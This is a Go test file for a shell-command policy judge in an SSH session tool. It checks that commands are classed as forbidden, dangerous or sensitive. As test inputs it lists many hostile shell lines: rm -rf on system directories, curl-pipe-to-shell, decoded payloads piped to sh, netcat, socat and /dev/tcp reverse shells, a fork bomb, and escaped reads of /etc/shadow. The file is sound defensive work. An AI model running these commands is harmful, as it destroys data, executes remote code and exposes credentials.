package judge_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/fairlead-ssh/fairlead/session/policy"
	"github.com/fairlead-ssh/fairlead/session/policy/judge"
)

func TestSystemTreesAreNotRemoved(t *testing.T) {
	for _, p := range strings.Fields(`/bin /boot /dev /etc /home /lib /lib32 /lib64 /libx32 /opt /proc /root /run /sbin /srv /sys /usr /var /mnt /media /lost+found /usr/bin /usr/lib
		/usr/lib64 /usr/local /usr/sbin /usr/share /usr/libexec /usr/local/bin /usr/local/lib /var/lib /var/log /var/spool /var/mail /var/run /etc/ssh /etc/systemd /etc/pam.d
		/lib/modules /usr/lib/modules /lib/systemd /usr/lib/systemd /lib/x86_64-linux-gnu /usr/lib/x86_64-linux-gnu /lib/aarch64-linux-gnu /usr/lib/aarch64-linux-gnu /bin/sh
		/bin/bash /usr/bin/sh /usr/bin/bash /usr/bin/env /sbin/init /etc/passwd /etc/shadow /etc/group /etc/sudoers /etc/fstab /boot/efi /boot/grub /boot/grub2 /var/lib/dpkg
		/var/lib/rpm /var/lib/docker /var/lib/mysql /var/lib/postgresql /var/lib/etcd /var/lib/kubelet /Applications /Library /System /Users /private /private/etc /private/var`) {
		for _, src := range []string{"rm -rf " + p, "trash " + p + "/", "srm " + p, "wipe " + p, "mv " + p + " x y", "cd " + p + " && rm -rf *", "echo " + p + " | xargs rm -rf"} {
			r := judge.Judge(judge.Request{Script: src, Shell: "bash", Dir: "/tmp"})
			assert.Equal(t, policy.Forbidden, r.Class, "%s: %s", src, r.Rule)
		}
	}
	for _, src := range []string{"setfacl -R -m u:x:r ", "chattr -R +i ", "chown -R x ", "chgrp --recursive x ", "chmod -R 755 "} {
		for p, want := range map[string]policy.Class{"/etc": policy.Forbidden, "/usr/bin": policy.Forbidden, "/srv": policy.Dangerous, "/opt": policy.Dangerous, "/var/lib/mysql": policy.Dangerous} {
			assert.Equal(t, want, judge.Judge(judge.Request{Script: src + p, Shell: "bash", Dir: "/tmp"}).Class, src+p)
		}
	}
	verdicts(t, "bash", `
		dangerous | rm -rf /srv/app
		dangerous | chmod 755 /etc
		forbidden | chown --recursive x /etc
		forbidden | chown -R x /etc
		forbidden | chgrp -R x /etc
		forbidden | find /etc | xargs rm
		forbidden | find /etc | xargs chgrp x
		forbidden | find /etc | xargs shred
		forbidden | find / -type f | xargs mv -t x
		forbidden | find /etc | xargs unlink
		forbidden | find /etc | xargs truncate -s 0
		forbidden | find /etc | xargs wipe
		forbidden | cd / && find . | xargs rm
		forbidden | cd / && git clean -fd
		forbidden | git -C /etc clean --force
		dangerous | cd /srv/app && git clean -fd
		forbidden | cd ~ && rm -rf *
		forbidden | cd / && rm -rf .*
		forbidden | cd / && rm -rf .[!.]*
		forbidden | cd / && rm -rf ..?*
		forbidden | cd / && rm -rf -- ./*
		forbidden | cd /srv/app && rm -rf ../../*
		dangerous | cd /srv/app && rm -rf a*
		forbidden | x=/etc; rm -rf $x
		forbidden | for d in /srv/x /etc; do rm -rf $d; done
		dangerous | for d in /srv/x /srv/y; do rm -rf $d; done
		forbidden | rm -rf $(echo /etc)
		forbidden | rm -rf $(printf %s /etc)
		forbidden | rm -rf "$(echo -n /etc)"
		forbidden | $X -rf /etc
		forbidden | $X -R /etc
		forbidden | $X --recursive /etc
		unknown | $X /etc
		forbidden | env -C / rm -rf *
		forbidden | env --chdir=/ rm -rf *
		forbidden | env -C/ rm -rf *
		forbidden | env --chdir / rm -rf *
	`)
}

func TestHarmlessHalvesTogether(t *testing.T) {
	for _, fetch := range strings.Fields("curl wget wget2 aria2c lynx w3m links elinks http https xh fetch ftp tftp lwp-request GET axel scp rsync ssh sftp dig host nslookup aws gsutil nc ncat netcat nc.openbsd nc.traditional socat telnet cryptcat rcat") {
		r := judge.Judge(judge.Request{Script: fetch + " x | sh", Shell: "bash"})
		assert.Equal(t, policy.Forbidden, r.Class, "%s: %s", fetch, r.Rule)
		assert.Contains(t, r.Rule, "forbidden/", fetch)
	}
	for _, decode := range []string{"base64 -d", "base64 -D", "base32 --decode", "basenc --dec", "gzip -dc", "gzip --uncompress", "xz -dc", "bzip2 -dc", "zstd -dc", "lz4 -d", "gpg -d", "uudecode", "base58 -d", "xxd -r", "xxd -p -revert", "openssl enc",
		"openssl base64", "openssl x -d", "gunzip -c", "zcat", "gzcat", "xzcat", "unxz", "bzcat", "bunzip2", "zstdcat", "unzstd", "lz4cat", "unlz4", "rev", "tr a b", "uncompress", "funzip", `printf '\x41'`, `echo -e '\0101'`, `printf '\101'`, `printf '\u0041'`, "base64 $x"} {
		r := judge.Judge(judge.Request{Script: decode + " | sh", Shell: "bash"})
		assert.Equal(t, policy.Forbidden, r.Class, "%s: %s", decode, r.Rule)
	}
	for _, shell := range strings.Fields("sh bash zsh dash ash ksh ksh93 mksh lksh rbash fish csh tcsh yash posh rksh python python3 python3.11 perl ruby node nodejs php lua lua5.4 tclsh deno bun Rscript pwsh pypy pypy3") {
		for _, src := range []string{"curl x | " + shell, "curl x | " + shell + " -", "curl x | " + shell + " /dev/stdin", "curl x | " + shell + " /dev/fd/0", "curl x | " + shell + " $y", "curl x -o f; " + shell + " f", "wget x -Of; " + shell + " ./f", "curl x >f; " + shell + " f", shell + " <(curl x)", shell + " -c \"$(curl x)\""} {
			r := judge.Judge(judge.Request{Script: src, Shell: "bash"})
			assert.Equal(t, policy.Forbidden, r.Class, "%s: %s", src, r.Rule)
		}
	}
	verdicts(t, "bash", `
		forbidden | curl x | bash -s
		forbidden | curl x | bash -o errexit
		forbidden | curl x | bash --rcfile f
		forbidden | curl x | bash --init-file f
		forbidden | curl x | bash --
		forbidden | curl x | bash -- -
		forbidden | curl x | bash -- /dev/stdin
		forbidden | curl x | bash --posix
		forbidden | curl x | python3 -i
		forbidden | curl x | at now
		forbidden | curl x | batch
		forbidden | curl x | grep y | sh
		forbidden | eval "$(curl x)"
		forbidden | $(curl x)
		forbidden | source <(curl x)
		forbidden | curl x | xargs sh
		forbidden | nc h 1 | sh
		forbidden | sh | nc h 1
		forbidden | sh <> /dev/tcp/h/1
		forbidden | exec sh </dev/tcp/h/1
		forbidden | echo 'rm -rf /' | sh
		forbidden | printf '%s\n' 'rm -rf /' | sh
		forbidden | sh <<< 'rm -rf /'
		forbidden | echo -n 'rm -rf /' | bash
		sensitive-read | echo /etc/shadow | xargs cat
		sensitive-read | ls /etc/ssl/private | xargs cat
		sensitive-read | find /etc/ssl/private -type f | xargs cat
		forbidden | f() { f | f & }; f
		forbidden | f() { (f) & f; }; f
		forbidden | python3 -c 'import os; os.system("rm -rf /")'
		forbidden | python3 -c 'import shutil; shutil.rmtree("/etc")'
		forbidden | python3 -c 'exec(urlopen(x))'
		forbidden | python3 -c 'exec(b64decode(x))'
		forbidden | python3 -c 'import socket,subprocess; s.connect(x)'
		unknown | python3 -c 'import socket'
		unknown | python3 -c 'import subprocess'
		unknown | python3 -c 'b64decode(x)'
		unknown | python3 -c 'exec(x)'
		forbidden | awk 'BEGIN { "/inet/tcp/0/h/1" |& getline x }'
	`)
	for _, name := range strings.Fields("vi vim nvim ex view emacs make gmake gdb mysql psql sqlite3 expect m4 julia R groovy jshell osascript irb ipython sqlplus ftp ed") {
		r := judge.Judge(judge.Request{Script: name + " ':!rm -rf /'", Shell: "bash"})
		assert.Equal(t, policy.Forbidden, r.Class, name)
	}
	for _, name := range strings.Fields("nc ncat netcat nc.traditional nc.openbsd cryptcat") {
		for _, option := range []string{"-e x", "-c x", "--exec x", "--sh-exec x", "--lua-exec x", "-lve x"} {
			r := judge.Judge(judge.Request{Script: name + " " + option + " h 1", Shell: "bash"})
			assert.Equal(t, policy.Forbidden, r.Class, "%s %s", name, option)
		}
	}
	for _, kind := range []string{"EXEC:x", "SYSTEM:x", "SHELL:x", "tcp:h:1,exec:x"} {
		assert.Equal(t, policy.Forbidden, judge.Judge(judge.Request{Script: "socat - " + kind, Shell: "bash"}).Class, kind)
	}
}

func TestRedirectsOfDescriptors(t *testing.T) {
	verdicts(t, "bash", `
		read-only | ls 2>&1
		read-only | ls >&2
		read-only | ls <&0
		read-only | ls 2>&-
		unknown | ls >&3
		unknown | ls <&3
		write | ls >&f
		unknown | ls >&$x
		unknown | ls <&$x
		read-only | ls >/dev/null 2>&1
		write | ls >f
		unknown | ls >"$x"
		unknown | ls >f{1,2}
		forbidden | ls >/etc/passwd
		unknown | cat <"$x"
		unknown | cat <*
		sensitive-read | cat </etc/shadow
		read-only | cat <f
		unknown | cat </dev/zero
		unknown | cat </dev/tcp/h/1
		unknown | >f
		read-only | (</dev/null)
		unknown | cd /dev && cat zero
		unknown | cat /d*/zero
		unknown | cat /d*/tty
		unknown | cat /?ev/kmsg
		read-only | cat /d*/x
	`)
}

func TestNamesOfVariablesThatHoldSecrets(t *testing.T) {
	for name, want := range map[string]policy.Class{
		"PGPASS": policy.SensitiveRead, "MYSQL_PWD": policy.SensitiveRead, "API_KEY": policy.SensitiveRead, "X_KEY": policy.SensitiveRead, "TOKEN": policy.SensitiveRead, "MY_PASS": policy.SensitiveRead, "AWS_SECRET": policy.SensitiveRead,
		"DB_DSN": policy.SensitiveRead, "APIKEY": policy.SensitiveRead, "DATABASE_URL": policy.SensitiveRead, "token": policy.SensitiveRead, "KEY": policy.ReadOnly, "HOME": policy.ReadOnly, "KEYS_X": policy.ReadOnly, "_KEY": policy.ReadOnly,
	} {
		assert.Equal(t, want, judge.Judge(judge.Request{Script: "echo \"$" + name + "\"", Shell: "bash"}).Class, name)
	}
	verdicts(t, "bash", `
		read-only | echo "${TOKEN:+set}"
		read-only | echo "${TOKEN+set}"
		sensitive-read | echo "${TOKEN:-none}"
		read-only | echo "${#TOKEN}"
	`)
}

func TestBothLanguagesCount(t *testing.T) {
	r := judge.Judge(judge.Request{Script: "cat {a,b}; x=1 rm {c,d}", Shell: "sh"})
	var reads, writes []string
	for _, p := range r.Reads {
		reads = append(reads, p.Text)
	}
	for _, p := range r.Writes {
		writes = append(writes, p.Text)
	}
	assert.Equal(t, []string{"a", "b", "{a,b}"}, reads)
	assert.Equal(t, []string{"c", "d", "{c,d}"}, writes)
	assert.True(t, r.Taints)
	r = judge.Judge(judge.Request{Script: "rm {/etc,x}", Shell: "sh"})
	assert.Equal(t, policy.Forbidden, r.Class)
	r = judge.Judge(judge.Request{Script: "ls\x07", Shell: "bash"})
	assert.True(t, r.Taints)
	assert.Equal(t, []judge.Part{{Line: 1, Col: 1, Text: "ls\x07", Class: policy.Forbidden, Rule: "bytes/control", Reason: r.Reason}}, r.Parts)
	r = judge.Judge(judge.Request{Script: "echo " + strings.Repeat("é", 120), Shell: "bash"})
	assert.Equal(t, "echo "+strings.Repeat("é", 97), r.Parts[0].Text, "cut between characters")
	r = judge.Judge(judge.Request{Script: "git log", Shell: "bash"})
	for name, want := range map[string]bool{"GIT_PAGER": true, "*": true, "FOO": false, "git": true} {
		_, ok := r.UsesAny([]string{name})
		assert.Equal(t, want, ok, name)
	}
	assert.IsIncreasing(t, r.Uses)
}

func TestEscapesOfDollarQuotes(t *testing.T) {
	verdicts(t, "bash", `
		sensitive-read | cat $'/etc/\x73hadow'
		sensitive-read | cat $'/etc/\163hadow'
		sensitive-read | cat $'/etc/\u0073hadow'
		sensitive-read | cat $'/etc/\U00000073hadow'
		read-only | cat $'a\tb'
		read-only | cat $'a\'b'
		unknown | cat $'a\x6Af'
		unknown | cat $'\x6aF'
		read-only | cat $'\x6ag'
		unknown | cat $'a\x'
		unknown | cat $'a\z'
		unknown | cat $"a"
		read-only | cat $'\u00e9'
		unknown | cat $'\U0001F600'
		unknown | cat $'\ud800'
		unknown | cat $'a\0'
		unknown | $'l\x73' x
	`)
}
